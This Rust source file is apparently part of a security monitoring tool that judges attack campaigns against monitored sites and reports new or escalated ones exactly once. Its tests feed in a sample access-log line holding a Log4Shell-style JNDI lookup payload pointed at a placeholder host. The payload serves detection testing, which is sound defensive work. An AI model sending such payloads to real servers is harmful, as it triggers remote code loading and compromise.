//! Decisions by themselves, beside a server or a follower: when anything changed on which campaigns
//! rest, they are judged again, and one of attempts that is new or rose is told.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, mpsc};
use std::thread;
use std::time::{Duration, Instant};

use relight_engine::{
    Engine, EngineError, Judged, ToTell, begin_telling, campaigns_told, still_to_tell,
    tell_campaigns,
};
use relight_model::Campaign;
use relight_server::web::{number, texts};
use serde::Serialize;

use crate::context::Context;
use crate::failure::{Failure, chain};
use crate::report::{Report, Style};

/// How often is looked whether anything changed.
const LOOK_EVERY: Duration = Duration::from_secs(5);

/// So many times as long as judging took is waited before the next time: where there are thousands
/// of sites it takes long, and everything else has to go on.
const PAUSE_TIMES: u32 = 20;

/// The longest pause.
const PAUSE_MAX: Duration = Duration::from_secs(3_600);

/// How soon the thread sees that it is to end.
const STOP_EVERY: Duration = Duration::from_millis(100);

/// What waits to be told.
const NEWS_MAX: usize = 16;

/// What one look gave.
type News = Result<Vec<Campaign>, EngineError>;

/// What the thread that judges has to tell. It ends with its process: what it was about to tell
/// the next start tells.
pub(crate) struct Judging {
    news: mpsc::Receiver<News>,
    engine: Arc<Engine>,
}

#[derive(Serialize)]
struct Document<'a> {
    campaign: &'a str,
    severity: &'static str,
    confidence: f64,
    first: String,
    last: String,
    organisations: usize,
    sites: usize,
    sources: usize,
}

impl Judging {
    /// Begins to judge, of which nobody was told before. A register that takes nothing down now
    /// is tried again at each look: nothing is told before.
    pub(crate) fn start(engine: &Arc<Engine>, stop: &Arc<AtomicBool>) -> Self {
        let mut looking = Looking { is_begun: begin_telling(engine).is_ok(), ..Looking::default() };
        let (sender, news) = mpsc::sync_channel(NEWS_MAX);
        let (engine, stop) = (Arc::clone(engine), Arc::clone(stop));
        let own = Arc::clone(&engine);
        thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let start = Instant::now();
                looking.look(&engine, &sender);
                let pause = (start.elapsed() * PAUSE_TIMES).clamp(LOOK_EVERY, PAUSE_MAX);
                let waited = Instant::now();
                // Changes come from other processes too, and none of these tells this one.
                while waited.elapsed() < pause && !stop.load(Ordering::Relaxed) {
                    thread::sleep(STOP_EVERY);
                }
            }
        });
        Self { news, engine: own }
    }

    /// Tells what there is since the last call, and takes it down as told once `also` told it too.
    pub(crate) fn tell(&self, context: &Context, report: &mut Report, also: impl Fn(&Campaign)) {
        let (told, errors) = self.untold();
        for error in errors {
            report.fail(&Failure::engine(context.lang, &error));
        }
        for campaign in &told {
            tell_one(campaign, context, report);
            also(campaign);
        }
        if told.is_empty() {
            return;
        }
        // Who ends before this tells it again.
        report.flush();
        if let Err(error) = campaigns_told(self.engine.store(), &told, self.engine.now()) {
            report.fail(&Failure::engine(context.lang, &error));
        }
    }

    /// What there is since the last call and nobody told meanwhile, and why there is no more: while
    /// the caller is at work for long the same is sent again, and another process may tell it.
    fn untold(&self) -> (Vec<Campaign>, Vec<EngineError>) {
        let (mut news, mut errors) = (Vec::new(), Vec::new());
        for found in self.news.try_iter() {
            match found {
                Ok(campaigns) => news.extend(campaigns),
                Err(error) => errors.push(error),
            }
        }
        if news.is_empty() {
            return (news, errors);
        }
        let news = last_of_each(news);
        // What nobody can look up is told: rather twice than never.
        let told = still_to_tell(self.engine.store(), &news, self.engine.now());
        (told.unwrap_or(news), errors)
    }
}

/// Of each campaign what was sent last, under whatever id before.
fn last_of_each(news: Vec<Campaign>) -> Vec<Campaign> {
    let mut last: Vec<Campaign> = Vec::new();
    for campaign in news {
        last.retain(|it| it.id != campaign.id && !campaign.formerly.contains(&it.id));
        last.push(campaign);
    }
    last
}

/// What the thread remembers between two looks.
#[derive(Default)]
struct Looking {
    /// What was there before is taken down as told.
    is_begun: bool,
    known: Option<Arc<Judged>>,
    /// Why the look before this one failed, which was told.
    failed: Option<String>,
}

impl Looking {
    /// Judges, and sends what is news.
    fn look(&mut self, engine: &Engine, sender: &mpsc::SyncSender<News>) {
        let news = self.news(engine);
        let why = news.as_ref().err().map(|error| chain(error));
        let is_known = match &news {
            Ok(campaigns) => campaigns.is_empty(),
            Err(_) => why == self.failed,
        };
        self.failed = why;
        if !is_known {
            // Who has no ears any more is ending.
            drop(sender.send(news));
        }
    }

    /// What nobody was told of; the same campaigns as at the last look are none.
    fn news(&mut self, engine: &Engine) -> News {
        if !self.is_begun {
            begin_telling(engine)?;
            self.is_begun = true;
        }
        let judged = engine.campaigns()?;
        if self.known.as_ref().is_some_and(|known| Arc::ptr_eq(known, &judged)) {
            return Ok(Vec::new());
        }
        let found = tell_campaigns(engine.store(), &judged.campaigns, engine.now())?;
        let ToTell { news, is_open } = found;
        // What somebody else is about to tell is asked for again, should that one end before.
        self.known = (!is_open).then_some(judged);
        Ok(news)
    }
}

fn tell_one(campaign: &Campaign, context: &Context, report: &mut Report) {
    if context.json {
        let document = Document {
            campaign: &campaign.id,
            severity: campaign.severity.as_str(),
            confidence: campaign.confidence,
            first: number::rfc3339(campaign.first),
            last: number::rfc3339(campaign.last),
            organisations: campaign.organisations.len(),
            sites: campaign.sites.len(),
            sources: campaign.sources.len(),
        };
        return report.document_line("relight.campaign-notice/1", &document);
    }
    let sentence = texts::log_line(context.lang, LOG_CODE, &log_args(campaign));
    report.line(&report.paint(Style::Bad, &sentence));
    if let Some(denial) = super::denial(context.lang, campaign.severity) {
        report.line(&format!("  {denial}"));
    }
    report.next(&format!("relight watch explain {}", campaign.id));
}

/// The key of the line about a campaign that nobody was told of.
pub(crate) const LOG_CODE: &str = "log-campaign";

/// What the line is made of.
pub(crate) fn log_args(campaign: &Campaign) -> Vec<String> {
    let (organisations, sites) = (campaign.organisations.len(), campaign.sites.len());
    let severity = campaign.severity.as_str().to_owned();
    vec![campaign.id.clone(), organisations.to_string(), severity, sites.to_string()]
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::io::Cursor;
    use std::sync::atomic::AtomicI64;

    use relight_engine::store::{SiteRow, Store};
    use relight_engine::watch::Feed;
    use relight_engine::{EngineOptions, SIGNS, TELLING_S};
    use relight_model::{Criticality, GateKey};

    use super::*;

    /// A register with one site of one body.
    fn one_site(folder: &std::path::Path, clock: fn() -> i64) -> (Engine, Feed) {
        let site = SiteRow {
            line: 1,
            slug: GateKey::new("a").unwrap(),
            name_fr: "A".to_owned(),
            name_en: "A".to_owned(),
            origin: "https://a.example".to_owned(),
            organisation: "Body".to_owned(),
            sector: "health".to_owned(),
            criticality: Criticality::Important,
            exposure: None,
            aliases: None,
            parts: None,
            channel_fr: None,
            channel_en: None,
            edge: "east".to_owned(),
            public: true,
        };
        let store = Store::open(folder).unwrap();
        store.apply_import(&store.plan_import(&[site]).unwrap(), 1, "test").unwrap();
        let site = store.sites().unwrap().remove(0);
        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
        let options = EngineOptions { holder: "test".into(), clock, inventory_ttl_s: 1 };
        (Engine::open(Arc::new(store), options).unwrap(), feed)
    }

    const ATTEMPT: &str = "198.51.100.1 - - [10/Dec/2021:12:00:00 +0000] \
                           \"GET /?q=${jndi:ldap://x1.test/a} HTTP/1.1\" 200 9 \"-\" \"-\"\n";

    /// Goal: a campaign that rises is told again whatever made it rise. Method: a sign is written
    /// after its attempt, and no new window comes.
    #[test]
    fn a_campaign_that_rises_by_a_sign_is_told_without_a_new_window() {
        let folder = tempfile::tempdir().unwrap();
        let (engine, feed) = one_site(folder.path(), || 0);
        begin_telling(&engine).unwrap();
        let (sender, heard) = mpsc::sync_channel(NEWS_MAX);
        let mut looking = Looking { is_begun: true, ..Looking::default() };
        let mut told = || -> Vec<&'static str> {
            looking.look(&engine, &sender);
            let all: Vec<Campaign> = heard.try_iter().flat_map(Result::unwrap).collect();
            campaigns_told(engine.store(), &all, engine.now()).unwrap();
            all.iter().map(|campaign| campaign.severity.as_str()).collect()
        };
        assert_eq!(told(), [""; 0]);
        engine.ingest_log(&feed, Cursor::new(ATTEMPT.as_bytes())).unwrap();
        assert_eq!((told(), told()), (vec!["S3"], vec![]), "once");
        let sign = "2021-12-10T12:00:05Z,a,name-query,x1.test\n";
        fs::write(folder.path().join(SIGNS), sign).unwrap();
        assert_eq!((told(), told()), (vec!["S5"], vec![]), "and once more");
    }

    /// Goal: a campaign is told once however long those are busy who tell it. Method: two processes
    /// look again and again, at moments that are further apart than others wait, and none tells.
    #[test]
    fn a_campaign_is_told_once_however_long_those_who_tell_it_are_busy() {
        static NOW: AtomicI64 = AtomicI64::new(0);
        let folder = tempfile::tempdir().unwrap();
        let (engine, feed) = one_site(folder.path(), || NOW.load(Ordering::Relaxed));
        let engine = Arc::new(engine);
        begin_telling(&engine).unwrap();
        engine.ingest_log(&feed, Cursor::new(ATTEMPT.as_bytes())).unwrap();
        let process = || {
            let (sender, news) = mpsc::sync_channel(NEWS_MAX);
            let looking = Looking { is_begun: true, ..Looking::default() };
            (Judging { news, engine: Arc::clone(&engine) }, looking, sender)
        };
        let (mut one, mut other) = (process(), process());
        for _ in 0..3 {
            for (_, looking, sender) in [&mut one, &mut other] {
                NOW.fetch_add((TELLING_S + 1) * 1_000, Ordering::Relaxed);
                looking.look(&engine, sender);
            }
        }
        let (told, errors) = one.0.untold();
        let steps: Vec<_> = told.iter().map(|it| it.severity.as_str()).collect();
        assert_eq!((steps, errors.len()), (vec!["S3"], 0));
        one.1.look(&engine, &one.2);
        assert!(one.0.untold().0.is_empty(), "it is being told");
        campaigns_told(engine.store(), &told, engine.now()).unwrap();
        assert!(other.0.untold().0.is_empty(), "the other one told it");
    }
}
